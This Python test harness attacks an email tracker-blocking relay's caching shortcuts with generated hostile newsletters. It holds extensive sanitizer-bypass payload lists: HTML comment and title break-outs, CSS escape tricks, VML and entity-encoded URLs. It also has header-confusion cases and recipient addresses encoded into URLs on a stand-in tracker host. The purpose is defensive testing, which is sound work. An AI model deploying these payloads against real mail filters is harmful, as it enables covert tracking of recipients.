#!/usr/bin/env python3
"""Attack the relay's per-campaign shortcuts end to end, through the real relay.

What it does: it starts ``beacon-proxy serve`` (``Proxy`` of tests/e2e/harness.py; one
analysis worker unless ``--workers``) delivering to a capturing aiosmtpd (``Upstream``),
and sends it *campaigns*: priming copies (innocent), then hostile copies that differ from
them in ONE slot (same From/Subject/List-Id, same number of lines, same charset and
transfer encoding), or only in the header over the same body bytes (the ``Engine.rebase``
path).  Every recipient is unknown, so refused by default, except the ``mixed`` family's
granted ones.  A later copy of a campaign meets the relay's per-campaign shortcuts (an
earlier copy's scan reused, rescanned or rebased); the harness checks that no refused
copy the relay delivers loads the tracker.

Run it (a few minutes for a small run; ``--deadline``, 2400 s by default, stops it from
starting more campaigns)::

    cd <repo> && PYTHONPATH=. nice -n 19 python bench/relay_shortcut_attack.py \
        --seed 3 --limit 1500 --out /tmp/attack10

It needs Debian's ``chromium`` and ``chromium-driver`` packages (``/usr/bin/chromium``,
``/usr/bin/chromedriver``) and the project's test dependencies (selenium, aiosmtpd); the
relay runs from this tree.  ``--limit`` caps the ``slot`` and ``value`` families' hostile
copies only: the other families have a fixed number of cases (identity 69, header 18,
reveal 450, mixed 120, hidden 78).  The same ``--seed`` gives the same cases (but for
the time stamp in most Message-IDs).

Each hostile copy that the relay delivers is rendered in headless Chromium by the
project's renderer oracle (tests/rewrite/renderer.py), with the tracker host mapped to a
loopback trap.  A held copy passes and is not rendered.  The ORIGINAL hostile message is
rendered in a second browser as a control: a case whose control does not load the tracker
proves nothing (counted apart, as ``control_silent``).  Priming copies render in a third
browser (a late connection of one page must not count against the next; not with
``--parallel``).

A ``FAIL-OPEN <case> <loads>`` line means that the relay delivered a copy whose
rendering requested a URL on the tracker host or connected to its trap (``<loads>``
lists them); the pair is written under ``OUT/fail/<case>/`` (``priming<i>.eml``,
``hostile.eml``, ``delivered.eml``).  The same message is then made again by a cold
engine in this process (no cache warm): ``FAIL_OPEN`` in the tally when the cold copy
loads nothing (the shortcut's fault), ``FAIL_OPEN_cold_too`` when it loads as well (the
analysis's own fault, not a shortcut's).  With ``--parallel`` the line reads
``FAIL-OPEN (parallel)`` and counts as ``FAIL_OPEN`` without the cold copy (``NO COPY``
when the upstream got none).  A priming copy whose rendering loads a URL naming its own
(refused) recipient counts as ``priming_fail_open``.  The exit status is 1 when
``FAIL_OPEN`` or ``priming_fail_open`` is not zero, else 0.

Families (``--families``, comma-separated; default ``identity,header,reveal,slot``):

* ``slot``: a 34-line newsletter template with 14 slots (text, a/img values, style
  block, inline style, conditional comment, comment, title, td background, srcset, a
  relative per-recipient pixel); a campaign is two priming copies (innocent, then
  personalised) and up to 12 hostile copies, each one payload in one slot (204 pairs of
  a slot and a payload: markup in text, URL values, value break-outs, CSS declarations
  and escapes, @import, conditional-comment and comment break-outs, entities in URLs,
  ``<base href>``, VML), wrapped as single part / alternative / two HTML parts /
  ``message/rfc822``, in 8bit, base64 or quoted-printable cut at a random column,
  utf-8, iso-8859-1, windows-1252 or us-ascii;
* ``value``: copies that differ only inside quoted values of plain tags (img src, td
  background, srcset, the pixel) and in inert text: the readers' cached path;
* ``reveal``: the priming copy hides a load in a wrapper opened by a personal slot on
  an earlier line (textarea, title, xmp, comment, style comment, script, noembed,
  noframes, iframe, template, attribute value, conditional comment, CSS string,
  noscript, select, svg desc, plaintext, CDATA, processing instruction, bogus comment);
  the hostile copy drops the opener, breaks its name, or closes it early;
* ``hidden``: a visible impersonal image on the tracker host (kept) that the hostile
  copy hides or makes tiny in one slot (td style, ancestor ``hidden``, width, height,
  img style): a reused "visible" finding would keep it;
* ``header``: the same body bytes under another header (Content-Transfer-Encoding,
  charset, type, boundary, message/rfc822, Content-Base/-Location, disposition,
  a header line Python's email ends the header at): the ``Engine.rebase`` path;
* ``identity``: a load whose URL names only the later recipient (23 forms of the
  address: encoded, base64, hex, digests, ...) in 7 kinds of element, sent as the
  same bytes (known), under another header (rebase) or as one message to both
  (the shared refused copy);
* ``mixed``: a granted recipient's copy made first (same message or same bytes).

``--parallel K`` sends each campaign's copies from K threads at once (the pending
analysis that a same-body copy waits for, rebase and memo under concurrency);
``--workers`` sets ``[policy] analysis_workers``; ``--pad`` lengthens the header cases'
bodies past ``pool.INLINE_BYTES`` so they go to the pool.

A shadow engine in this process replays the same sequence through ``copies.prepare``
(not with ``--parallel``) and counts the cached paths taken (``ScanCache.rescan`` hits,
``webmail.rewash`` hits), so the report can say the shortcut was reached.

Output: a tally line every 25 hostile copies, then the summary (also
``OUT/summary.json``: the tally, the shadow's counts, the relay's exit status, its
error events, its analysis and copy counters); one JSON line per hostile copy in
``OUT/results.jsonl``; failing pairs under ``OUT/fail/``.

Session 21's runs (2026-12-07, seeds 3-11; ``--limit 1500``, ``--families value --limit
400``, ``reveal``, ``reveal,hidden``, ``mixed,identity``, ``hidden``, ``identity,header,slot
--limit 200 --parallel 4 --workers 2 --pad 60``, ``slot --limit 500 --seed 11``): 4019
hostile copies, 3976 delivered and rendered, 43 held, no FAIL-OPEN; 491 controls did not
load the tracker (Outlook-only constructs, value break-outs Chromium reads harmlessly, and
before seed 11 a CSS declaration in the ``.x`` rule no element used: ``class="x"`` since).
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import sys
import tempfile
import time
import urllib.parse
from collections import Counter
from collections.abc import Callable, Collection
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Required, TypedDict

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.e2e.harness import Proxy, Upstream, wait_for  # noqa: E402
from tests.rewrite.renderer import Renderer, html_parts, renderer  # noqa: E402

HOST = "t.attack10-tracker.example"
FROM = "Shop <news@shop.example>"
SENDER = "news@shop.example"


def tracker(case: str, rcpt: str) -> str:
    return f"https://{HOST}/p/{case}.gif?e={urllib.parse.quote(rcpt, safe='')}"


# --------------------------------------------------------------------------- template
# Slots: {T} text, {A} a href value, {I} img src value, {L} img alt value, {S0} start of a
# <style>, {S1} inside a rule, {Y} inline style value, {M} inside <!--[if mso]>,
# {B} td background value, {R} srcset value, {C} inside a comment, {H} <title> text,
# {V} another text slot inside a table, {E} the per-recipient relative pixel's token.
TEMPLATE = """<!DOCTYPE html>
<html><head>
<title>{H}</title>
<style type="text/css">{S0}
.x {{ {S1} }}
body {{ margin:0; padding:0; }}
</style>
<!--[if mso]>{M}<![endif]-->
</head>
<body style="margin:0">
<!-- {C} -->
<table width="600" cellpadding="0" cellspacing="0" border="0">
<tr><td style="{Y}"><h1>Our winter collection</h1></td></tr>
<tr><td><p class="x">Hello {T},</p></td></tr>
<tr><td><p>Here is what is new this week at the shop. Warm coats, scarves and hats.</p></td></tr>
<tr><td><a href="https://shop.example/deal?u={A}">See the deals</a></td></tr>
<tr><td><img src="{I}" width="600" height="300" alt="{L}"></td></tr>
<tr><td background="{B}"><p>Free shipping on orders over 50 EUR.</p></td></tr>
<tr><td><img src="https://cdn.shop.example/strip.png" srcset="{R}" width="600" alt="strip"></td></tr>
<tr><td><p>{V}</p></td></tr>
<tr><td><p>Line filler one: lorem ipsum dolor sit amet, consectetur.</p></td></tr>
<tr><td><p>Line filler two: sed do eiusmod tempor incididunt ut labore.</p></td></tr>
<tr><td><p>Line filler three: ut enim ad minim veniam, quis nostrud.</p></td></tr>
<tr><td><p>Line filler four: exercitation ullamco laboris nisi ut aliquip.</p></td></tr>
<tr><td><p>Line filler five: duis aute irure dolor in reprehenderit.</p></td></tr>
<tr><td><p>Line filler six: excepteur sint occaecat cupidatat non proident.</p></td></tr>
<tr><td><p>Line filler seven: sunt in culpa qui officia deserunt mollit.</p></td></tr>
<tr><td><p>Line filler eight: anim id est laborum, sed ut perspiciatis.</p></td></tr>
<tr><td><p>Line filler nine: unde omnis iste natus error sit voluptatem.</p></td></tr>
<tr><td><p>Line filler ten: accusantium doloremque laudantium, totam rem.</p></td></tr>
<tr><td><img src="p/o.gif?e={E}" width="1" height="1" alt=""></td></tr>
<tr><td><p>You get this mail because you subscribed at shop.example.</p></td></tr>
</table>
</body></html>
"""  # noqa: E501 (the template is data: a line of it is not cut)

INNOCENT = {
    "H": "Winter news", "S0": "/* shop */", "S1": "color:#333", "M": "<p>mso</p>",
    "C": "layout table", "Y": "padding:4px", "T": "Friend", "A": "tok0001abc",
    "I": "https://cdn.shop.example/hero.png", "L": "Winter hero", "B":
    "https://cdn.shop.example/bg.png", "R": "https://cdn.shop.example/strip2.png 2x",
    "V": "Thanks for reading", "E": "tok0001abc",
}

# Payloads per slot kind; {U} tracker URL, {H} tracker host, {P} the URL without scheme.
MARKUP = [
    '<img src="{U}" width="1" height="1">', "<img src={U}>", "<img src='{U}' width=1 height=1>",
    '<link rel="stylesheet" href="{U}">', '<link rel=preconnect href="https://{H}">',
    '<link rel="preload" as="image" href="{U}">', '<link rel=prefetch href="{U}">',
    '<meta http-equiv="refresh" content="0;url={U}">',
    '<base href="https://{H}/">',
    "<style>@import url({U});</style>", "<style>p{{background:url({U})}}</style>",
    "<style>p{{background:u\\72l({U})}}</style>", "<style>p{{background:\\75rl('{U}')}}</style>",
    '<div style="background-image:url({U})">x</div>',
    '<div style="background:u\\72l({U})">x</div>',
    '<div style="background:url&#40;{U})">x</div>',
    '<img srcset="{U} 1x" width="1" height="1">',
    '<picture><source srcset="{U}"><img src="cid:x" width="1" height="1"></picture>',
    '<table background="{U}"><tr><td>x</td></tr></table>',
    '<iframe src="{U}" width="0" height="0"></iframe>', '<video poster="{U}"></video>',
    '<input type="image" src="{U}">', '<embed src="{U}">', '<audio src="{U}"></audio>',
    '<object data="{U}"></object>',
    '<img src="https&#58;//{P}" width="1" height="1">',
    '<img src="&#x68;ttps://{P}" width="1" height="1">',
    '<img src="https:&#x2F;&#x2F;{P}" width="1" height="1">',
    '<img src="//{P}" width="1" height="1">',
    '<img src="{U}" width="1" height="1" loading="lazy">',
    '<!--[if !mso]><!--><img src="{U}" width="1" height="1"><!--<![endif]-->',
    '<![endif]--><img src="{U}"><!--[if mso]>',
    '--><img src="{U}"><!--', '</title><img src="{U}"><title>',
    '</style><img src="{U}"><style>',
    '<svg><image href="{U}" width="1" height="1"/></svg>',
    '<v:image src="{U}" style="width:1px;height:1px"/>',
    '<v:rect fill="true"><v:fill type="tile" src="{U}"/></v:rect>',
    '<xmp></xmp><img src="{U}">', '<noscript><img src="{U}"></noscript>',
    '<img src="{U}" style="display:none">',
]
URL_VALUE = [  # put where a URL value was (img src / background / srcset)
    "{U}", "https&#58;//{P}", "&#x68;ttps://{P}", "//{P}", "https:&#47;&#47;{P}",
    " {U}", "{U}&amp;x=1", "HTTPS://{P}", "https://{H}:443/{Q}", "https:\\\\{P}",
    "https://cdn.shop.example/hero.png\" src=\"{U}", "x\" srcset=\"{U} 1x",
    "https://@{P}", "https://%74.attack10-tracker.example/{Q}",
]
VALUE_BREAK = [  # inside a quoted value that loads nothing
    'x" src="{U}', 'x"><img src="{U}"><a x="', "x' src='{U}", 'x" style="background:url({U})',
    'x"><link rel=stylesheet href="{U}"><b x="', "{U}", "x&quot;><img src={U}>",
    'x" background="{U}',
]
CSS_DECL = [
    "background:url({U})", "background:url('{U}')", 'background-image:url("{U}")',
    "background:u\\72l({U})", "background:\\75rl({U})", "background:url&#40;{U})",
    "list-style-image:url({U})", "border-image:url({U}) 30", "content:url({U})",
    "cursor:url({U}),auto", "background:image-set('{U}' 1x)", "mask:url({U})",
    "background:URL({U})", "background:u\\rl({U})", "background:url(\n{U})",
    "}} @import url({U}); .y {{", "}} @font-face {{ font-family:x; src:url({U}) }} .y {{",
    "}}</style><img src={U}><style>.z{{",
]
CSS_TOP = [
    "@import url({U});", "@import '{U}';", '@import "{U}" screen;', "@import url('{U}') ;",
    "@\\69mport url({U});", "@import \"//{P}\";", "@charset \"x;@import '{U}';\";",
    ".a{{background:url({U})}}", "</style><img src={U}><style>",
    "@font-face{{font-family:z;src:url({U})}} p{{font-family:z}}",
]
MSO = [
    '<v:image src="{U}" style="width:1px;height:1px"/>', '<v:fill src="{U}"/>',
    '<img src="{U}" width="1" height="1">', '<![endif]--><img src="{U}"><!--[if mso]>',
    '--><img src="{U}"><!--', '<![endif]--><link rel=stylesheet href="{U}"><!--[if mso]>',
    '<b title="--><img src={U}>"></b>', '--!><img src="{U}"><!--',
]
COMMENT = [
    '--><img src="{U}"><!--', '--!><img src="{U}"><!--', '-><img src="{U}">',
    '> --><img src="{U}"><!-- <', '--><base href="https://{H}/"><!--',
    '--><style>@import url({U});</style><!--',
]
TITLE = ['</title><img src="{U}"><title>', '</title ><img src="{U}">', '</TITLE><img src={U}>',
         '</title><base href="https://{H}/"><title>']

SLOTS = {  # slot -> payload families
    "T": MARKUP, "V": MARKUP, "A": VALUE_BREAK, "L": VALUE_BREAK, "I": URL_VALUE,
    "B": URL_VALUE, "R": URL_VALUE, "Y": CSS_DECL, "S1": CSS_DECL, "S0": CSS_TOP, "M": MSO,
    "C": COMMENT, "H": TITLE,
}
# Text/value slots that personalise innocently (the "cheap" difference between copies).
PERSONAL = {"T": "Ann", "A": "tok9z8y7x6", "L": "Winter hero for Ann", "V": "Thanks Ann",
            "E": "tok9z8y7x6"}


def fill(slots: dict[str, str], rcpt: str, case: str) -> str:
    u = tracker(case, rcpt)
    values = {}
    for k, v in slots.items():
        values[k] = v.replace("{U}", u).replace("{H}", HOST).replace(
            "{P}", u.removeprefix("https://")).replace(
            "{Q}", u.removeprefix(f"https://{HOST}/")).replace("{{", "{").replace("}}", "}")
    return TEMPLATE.format(**values)


# --------------------------------------------------------------------------- encoding
def qp_encode(data: bytes, width: int) -> bytes:
    """Quoted-printable, soft breaks every ``width`` columns (never inside an =XX)."""
    out_lines = []
    for line in data.split(b"\n"):
        line = line.removesuffix(b"\r")
        enc = b""
        for byte in line:
            c = bytes([byte])
            if byte in (61,) or byte > 126 or (byte < 32 and byte != 9):
                enc += b"=%02X" % byte
            else:
                enc += c
        if enc.endswith((b" ", b"\t")):
            enc = enc[:-1] + b"=%02X" % enc[-1]
        pieces = []
        while len(enc) > width:
            cut = width - 1
            while cut > 0 and b"=" in enc[max(0, cut - 2):cut]:
                cut -= 1
            pieces.append(enc[:cut] + b"=")
            enc = enc[cut:]
        pieces.append(enc)
        out_lines += pieces
    return b"\r\n".join(out_lines)


def crlf(b: bytes) -> bytes:
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


@dataclass
class Wrap:
    kind: str  # single | alt | mixed2 | rfc822
    cte: str  # 8bit | quoted-printable | base64
    charset: str
    width: int = 76
    first: bytes | None = None  # twohtml: the first HTML part (innocent)

    def body_of(self, html: bytes) -> bytes:
        if self.cte == "quoted-printable":
            return qp_encode(html, self.width) + b"\r\n"
        if self.cte == "base64":
            return base64.encodebytes(html).replace(b"\n", b"\r\n")
        return crlf(html)

    def message(self, html: bytes, rcpt: str, n: int, subject: str) -> bytes:
        head = (f"From: {FROM}\r\nTo: <{rcpt}>\r\nSubject: {subject}\r\n"
                f"Message-ID: <a10-{n}-{time.time_ns()}@shop.example>\r\n"
                "List-Id: Shop news <news.shop.example>\r\n"
                "Date: Mon, 07 Dec 2026 03:00:00 +0000\r\nMIME-Version: 1.0\r\n").encode()
        ctype = f"text/html; charset={self.charset}".encode()
        part = (b"Content-Type: " + ctype + b"\r\nContent-Transfer-Encoding: "
                + self.cte.encode() + b"\r\n\r\n" + self.body_of(html))
        if self.kind == "single":
            return head + part
        text = b"Content-Type: text/plain; charset=utf-8\r\n\r\nWinter collection.\r\n"
        if self.kind == "alt":
            return (head + b'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n'
                    b"--b1\r\n" + text + b"--b1\r\n" + part + b"\r\n--b1--\r\n")
        if self.kind == "twohtml":  # the hostile slot lands in both parts alike; part 1
            # is kept innocent by message(): see twohtml_first
            first = (b"Content-Type: " + ctype + b"\r\nContent-Transfer-Encoding: "
                     + self.cte.encode() + b"\r\n\r\n" + self.body_of(self.first or html))
            return (head + b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
                    b"--b1\r\n" + first + b"\r\n--b1\r\n" + part + b"\r\n--b1--\r\n")
        if self.kind == "rfc822":
            inner = (f"From: {FROM}\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n").encode() + part
            return (head + b'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
                    b"--b1\r\n" + text + b"--b1\r\nContent-Type: message/rfc822\r\n"
                    b"Content-Disposition: inline\r\n\r\n" + inner + b"\r\n--b1--\r\n")
        raise ValueError(self.kind)


# --------------------------------------------------------------------------- cases
@dataclass
class Case:
    name: str
    family: str
    priming: list[bytes]  # sent first, in order (each its own recipient)
    hostile: bytes
    rcpt: str  # the hostile copy's recipient
    prim_rcpts: list[str] = field(default_factory=list)
    # the hostile copy is one message to these recipients (``rcpt`` among them), not one
    multi: list[str] | None = None
    # recipients whose consent is set to granted before the campaign is sent
    granted: list[str] = field(default_factory=list)
    # a priming copy's load may name the later recipient (identity: not counted against it)
    priming_may_load: bool = False


Event = dict[str, Any]  # a relay log record (JSON), as tests/e2e/harness.py reads them


class Priming(TypedDict):
    """A priming copy's line in a result: its outcome and the loads of its rendering."""

    event: str
    outcome: str | None
    loads: list[str]


class Record(TypedDict, total=False):
    """One line of ``OUT/results.jsonl``: what became of one hostile copy."""

    case: Required[str]
    family: Required[str]
    parallel: bool
    priming: list[Priming]
    shadow: dict[str, int | str]
    event: str
    outcome: str | None
    reason: str | list[str] | None
    control: bool
    rendered: bool
    loads: list[str]
    host_left_in_html: bool
    cold_loads: list[str]


def slot_cases(rng: random.Random, start: int, limit: int) -> list[list[Case]]:
    """Campaigns: one priming copy, then hostile copies each varying one slot."""
    campaigns: list[list[Case]] = []
    n = start
    wraps = [Wrap("single", "8bit", "utf-8"), Wrap("alt", "quoted-printable", "utf-8", 76),
             Wrap("single", "quoted-printable", "utf-8", 23),
             Wrap("alt", "quoted-printable", "iso-8859-1", 41), Wrap("alt", "base64", "utf-8"),
             Wrap("rfc822", "8bit", "utf-8"), Wrap("alt", "8bit", "windows-1252"),
             Wrap("twohtml", "8bit", "utf-8"), Wrap("twohtml", "quoted-printable", "utf-8", 33),
             Wrap("rfc822", "quoted-printable", "utf-8", 57), Wrap("single", "8bit", "us-ascii")]
    rng.shuffle(wraps)
    all_pairs = []
    for _ in range(1 + limit // 200):
        one = [(slot, p) for slot, fam in SLOTS.items() for p in fam]
        rng.shuffle(one)
        all_pairs += one
    all_pairs.reverse()
    per_campaign = 12
    total = 0
    ci = 0
    while total < limit and all_pairs:
        wrap = wraps[ci % len(wraps)]
        if wrap.cte == "quoted-printable":
            wrap = Wrap(wrap.kind, wrap.cte, wrap.charset, rng.randrange(12, 77))
        subject = "Winter news"
        cases: list[Case] = []
        prim_rcpt = f"prime{ci}@example.net"
        innocent_html = fill(INNOCENT, prim_rcpt, "prime").encode()
        if wrap.charset not in ("utf-8",):
            innocent_html = innocent_html.decode().encode(wrap.charset, "replace")
        wrap.first = innocent_html
        prim = wrap.message(innocent_html, prim_rcpt, n, subject)
        n += 1
        # a second, personalised priming copy: the cheap path's "last copy" is personal
        prim2_rcpt = f"primeb{ci}@example.net"
        slots2 = {**INNOCENT, **PERSONAL}
        prim2 = wrap.message(fill(slots2, prim2_rcpt, "prime").encode(wrap.charset, "replace"),
                             prim2_rcpt, n, subject)
        n += 1
        for _ in range(per_campaign):
            if not all_pairs or total >= limit:
                break
            slot, payload = all_pairs.pop()
            rcpt = f"h{n}@example.net"
            name = f"c{ci}-{slot}-{n}"
            base = dict(slots2) if rng.random() < 0.5 else dict(INNOCENT)
            if rng.random() < 0.5:  # a personal difference of another length elsewhere
                other = rng.choice([k for k in PERSONAL if k != slot])
                base[other] = PERSONAL[other] + "x" * rng.randrange(0, 9)
            base[slot] = payload
            html = fill(base, rcpt, name).encode()
            if wrap.charset != "utf-8":
                html = html.decode().encode(wrap.charset, "replace")
            hostile = wrap.message(html, rcpt, n, subject)
            n += 1
            cases.append(Case(name, f"slot:{slot}:{wrap.kind}/{wrap.cte}/{wrap.charset}",
                              [prim, prim2] if not cases else [], hostile, rcpt,
                              [prim_rcpt, prim2_rcpt] if not cases else []))
            total += 1
        campaigns.append(cases)
        ci += 1
    return campaigns


PAD_LINES = 0  # --pad: lines of filler in the header cases' bodies


def header_cases(start: int) -> list[list[Case]]:
    """Rebase path: the same body bytes under another header."""
    out: list[list[Case]] = []
    n = start

    def head(rcpt: str, extra: str, mime: bool = True) -> bytes:
        nonlocal n
        n += 1
        return (f"From: {FROM}\r\nTo: <{rcpt}>\r\nSubject: Rebase news\r\n"
                f"Message-ID: <rb-{n}@shop.example>\r\nList-Id: Shop news <news.shop.example>\r\n"
                + ("MIME-Version: 1.0\r\n" if mime else "") + extra).encode()

    def pair(name: str, prim_extra: str, host_extra: str, body_for: Callable[[str, str], bytes],
             *, mime2: bool = True, also_same: bool = True) -> list[Case]:
        rcpt = f"rb{name}@example.net"
        body = body_for(rcpt, name)
        prim_rcpt = f"rbp{name}@example.net"
        prims = [head(prim_rcpt, prim_extra) + b"\r\n" + body]
        if also_same:  # a second copy under the priming header: a proven rebase first
            prims.append(head(f"rbq{name}@example.net", prim_extra) + b"\r\n" + body)
        hostile = head(rcpt, host_extra, mime2) + b"\r\n" + body
        return [Case(name, f"header:{name}", prims, hostile, rcpt)]

    pad = "".join(f"<p>Filler paragraph {i} for the reader, words words.</p>\r\n"
                  for i in range(PAD_LINES))
    img = ('<html><body><p>Hi</p>\r\n' + pad + '<img src="{U}" width="1" height="1">'
           '</body></html>\r\n')

    def b64_body(rcpt: str, name: str) -> bytes:
        return base64.encodebytes(img.replace("{U}", tracker(name, rcpt)).encode()
                                  ).replace(b"\n", b"\r\n")

    out.append(pair("cte7to64", "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: 7bit\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: base64\r\n",
                    b64_body))
    out.append(pair("cte64case", "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: x-none\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: BASE64\r\n",
                    b64_body))

    def qp_body(rcpt: str, name: str) -> bytes:
        return (b'<html><body><p>Hi</p><img src=3D"' + tracker(name, rcpt).encode()
                + b'" width=3D"1" height=3D"1"></body></html>\r\n')
    out.append(pair("cte7toqp", "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: 7bit\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: quoted-printable\r\n", qp_body))

    def html_body(rcpt: str, name: str) -> bytes:
        return img.replace("{U}", tracker(name, rcpt)).encode()
    out.append(pair("plain2html", "Content-Type: text/plain; charset=utf-8\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n", html_body))
    out.append(pair("plain2html_nomime", "Content-Type: text/plain; charset=utf-8\r\n",
                    "Content-Type: text/html\r\n", html_body, mime2=False))
    out.append(pair("octet2html", "Content-Type: application/octet-stream\r\n",
                    "Content-Type: application/octet-stream; name=\"a.html\"\r\n", html_body))
    out.append(pair("nomime2mime", "Content-Type: text/html; charset=utf-8\r\n",
                    "Content-Type: text/html; charset=utf-8\r\nContent-Type: text/plain\r\n",
                    html_body))

    def utf7_body(rcpt: str, name: str) -> bytes:
        return ("<html><body><p>Hi</p>" + img.replace("{U}", tracker(name, rcpt)).replace(
            "<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-") + "</body></html>\r\n"
                ).encode()
    out.append(pair("charset_utf7", "Content-Type: text/html; charset=utf-8\r\n",
                    "Content-Type: text/html; charset=utf-7\r\n", utf7_body))
    out.append(pair("charset_utf7_2231", "Content-Type: text/html; charset=utf-8\r\n",
                    "Content-Type: text/html; charset*=utf-8''utf-7\r\n", utf7_body))

    def boundary_body(rcpt: str, name: str) -> bytes:
        u = tracker(name, rcpt)
        return (b"--b1\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
                b"--b2\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                b'<img src="' + u.encode() + b'" width="1" height="1">\r\n'
                b"--b2--\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                b"<p>innocent</p>\r\n--b1--\r\n")
    out.append(pair("boundary_b1_b2", 'Content-Type: multipart/alternative; boundary="b1"\r\n',
                    'Content-Type: multipart/alternative; boundary="b2"\r\n', boundary_body))
    out.append(pair("boundary_quote", 'Content-Type: multipart/alternative; boundary="b1"\r\n',
                    "Content-Type: multipart/alternative; boundary=b2\r\n", boundary_body))
    out.append(pair("boundary_fold", 'Content-Type: multipart/alternative; boundary="b1"\r\n',
                    'Content-Type: multipart/alternative;\r\n boundary="b2"\r\n', boundary_body))

    def rfc822_body(rcpt: str, name: str) -> bytes:
        return (b"Subject: inner\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
                + img.replace("{U}", tracker(name, rcpt)).encode())
    out.append(pair("plain2rfc822", "Content-Type: text/plain\r\n",
                    "Content-Type: message/rfc822\r\n", rfc822_body))

    def base_body(rcpt: str, name: str) -> bytes:
        return (b'<html><body><img src="p/' + name.encode() + b'.gif?e='
                + urllib.parse.quote(rcpt, safe="").encode() + b'" width="1" height="1">'
                b"</body></html>\r\n")
    out.append(pair("content_base", "Content-Type: text/html; charset=utf-8\r\n",
                    f"Content-Type: text/html; charset=utf-8\r\nContent-Base: https://{HOST}/\r\n",
                    base_body))
    out.append(pair("content_location",
                    "Content-Type: text/html; charset=utf-8\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n"
                    f"Content-Location: https://{HOST}/x.html\r\n", base_body))
    out.append(pair("disp_inline",
                    "Content-Type: text/plain\r\nContent-Disposition: attachment\r\n",
                    "Content-Type: text/html\r\nContent-Disposition: inline\r\n", html_body))
    # a header line Python's email ends the header at: the Content-Type after it is body
    out.append(pair("header_end", "X-A: 1\r\n:bad\r\nContent-Type: text/html; charset=utf-8\r\n",
                    "X-A: 1\r\nContent-Type: text/html; charset=utf-8\r\n", html_body))
    out.append(pair("cte_qp_to_8bit_html", "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: 8bit\r\n",
                    "Content-Type: text/html; charset=utf-8\r\n"
                    "Content-Transfer-Encoding: quoted-printable\r\n",
                    lambda r, nm: b'<img src=3D"' + tracker(nm, r).encode()
                    + b'" width=3D1 height=3D1>\r\n<p>x</p>\r\n'))
    return out


def identity_forms(rcpt: str) -> dict[str, str]:
    import hashlib
    b = rcpt.encode()
    q = urllib.parse.quote(rcpt, safe="")
    return {
        "raw": rcpt, "pct": q, "pct2": urllib.parse.quote(q, safe=""),
        "b64": base64.b64encode(b).decode(),
        "b64url": base64.urlsafe_b64encode(b).decode().rstrip("="),
        "b64pct": base64.b64encode(q.encode()).decode(), "hex": b.hex(), "HEX": b.hex().upper(),
        "b32": base64.b32encode(b).decode().rstrip("="),
        "md5": hashlib.md5(b).hexdigest(), "sha1": hashlib.sha1(b).hexdigest(),
        "SHA256": hashlib.sha256(b).hexdigest().upper(), "sha512": hashlib.sha512(b).hexdigest(),
        "sha224": hashlib.sha224(b).hexdigest(), "sha384": hashlib.sha384(b).hexdigest(),
        "md5uuid": "-".join([hashlib.md5(b).hexdigest()[i:j] for i, j in
                             ((0, 8), (8, 12), (12, 16), (16, 20), (20, 32))]),
        "sha1path": "/".join([hashlib.sha1(b).hexdigest()[i:i + 10] for i in range(0, 40, 10)]),
        "ent": rcpt.replace("@", "&#64;"), "u0040": rcpt.replace("@", "\\u0040"),
        "pctu": rcpt.replace("@", "%u0040"), "fullwidth": rcpt.replace("@", "\uff20"),
        "b64inlong": "QUJD" + base64.b64encode(b"xy" + b + b"z").decode(),
        "pctlocal": q.replace("b", "%62", 1),
    }


ELEMENTS = [  # loads whose URL names only the later recipient (kept for the earlier one)
    '<img src="{URL}" width="600" height="300" alt="hero">',
    '<div style="background-image:url({URL})">x</div>',
    '<link rel="stylesheet" href="{URL}">', "<style>p{background:url('{URL}')}</style>",
    '<table background="{URL}"><tr><td>x</td></tr></table>',
    '<video poster="{URL}" width="600"></video>', '<img srcset="{URL} 2x" width="600" alt="h">',
]


def identity_cases(start: int) -> list[list[Case]]:
    """A visible image whose URL names only the later recipient: the earlier recipient's
    refused copy keeps it (a visible image naming nobody), the later one's must not."""
    out: list[list[Case]] = []
    n = start
    for mode in ("known", "header", "multi"):
        for form, _ in identity_forms("x@example.net").items():
            n += 1
            alice, bob = f"ida{n}@example.net", f"idb{n}@example.net"
            value = identity_forms(bob)[form]
            value = value.encode().decode("unicode_escape") if "\\" in value else value
            url = f"https://{HOST}/i/{form}/{value}/hero.png"
            element = ELEMENTS[n % len(ELEMENTS)].replace("{URL}", url)
            html = (f'<html><body><p>Hello</p>{element}<p>Bye</p>'
                    "</body></html>\r\n")
            body = html.encode("utf-8")

            def msg(to: str, body: bytes = body) -> bytes:
                return (f"From: {FROM}\r\nTo: {to}\r\nSubject: Hero\r\n"
                        "Message-ID: <hero-same@shop.example>\r\n"
                        "List-Id: Shop news <news.shop.example>\r\nMIME-Version: 1.0\r\n"
                        "Content-Type: text/html; charset=utf-8\r\n"
                        "Content-Transfer-Encoding: 8bit\r\n\r\n").encode() + body
            if mode == "known":
                prim, host = msg("<subscribers@shop.example>"), msg("<subscribers@shop.example>")
            else:
                prim, host = msg(f"<{alice}>"), msg(f"<{bob}>")
            case = Case(f"id-{mode}-{form}-{n}", f"identity:{mode}:{form}",
                        [prim] if mode != "multi" else [], host if mode != "multi" else prim,
                        bob, [alice] if mode != "multi" else [])
            case.multi = [alice, bob] if mode == "multi" else None
            case.priming_may_load = True
            out.append([case])
    return out


